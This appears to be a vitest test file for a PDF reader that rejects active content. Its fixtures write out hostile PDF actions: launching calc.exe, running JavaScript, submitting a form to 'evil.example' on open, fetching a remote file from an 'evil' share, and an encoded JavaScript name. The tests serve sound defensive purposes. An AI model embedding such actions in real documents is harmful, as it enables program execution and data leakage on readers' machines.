import { describe, expect, test } from 'vitest'
import { readPdf } from '#api/file/read-pdf.lib.ts'
import { aPackedPdf, aPdf } from '#tests/support/scenes/papers.ts'

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const LAUNCH = '<</S/Launch/F(calc.exe)>>'
const link = (action: string) => `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A${action}>>]`

describe('a PDF is refused', () => {
  test.each<[string, Uint8Array]>([
    ['launches a program when it is opened', aPdf({ catalogue: `/OpenAction${LAUNCH}` })],
    ['launches one, and says so in a packed stream', aPackedPdf({ catalogue: `/OpenAction${LAUNCH}` })],
    ['opens a file on another machine', aPdf({ catalogue: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>' })],
    ['sends a form when it is opened', aPdf({ catalogue: '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' })],
    ['runs a script after it was opened at a page', aPdf({ catalogue: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${SCRIPT}>>` })],
    ['runs a script when its second page is shown', aPdf({ pages: 2, page: `/AA<</O${SCRIPT}>>` })],
    ['runs a script from a link', aPdf({ page: link(SCRIPT) })],
    ['names its script in codes', aPdf({ page: link('<</S/J#61vaScript/JS(1)>>') })],
    ['launches a program from a link', aPdf({ page: link(LAUNCH) })],
    ['carries a file in a note', aPdf({ page: '/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]>>]' })],
    ['holds a form that is a program', aPdf({ catalogue: '/AcroForm<</XFA[(template)3 0 R]/Fields[]>>' })],
  ])('that %s', async (_, pdf) => {
    expect(await readPdf(pdf)).toEqual({ reason: 'active' })
  }) // prettier-ignore
})

test('a PDF with a link to a page, a filled form or a first page to open at is taken', async () => {
  const page = link('<</S/URI/URI(https://shop.example)>>')
  const catalogue = '/OpenAction[3 0 R/Fit]/AcroForm<</Fields[<</FT/Tx/T(name)/V(Ann)>>]>>'

  expect(await readPdf(aPdf({ page, catalogue }))).toEqual({ pages: 1 })
})
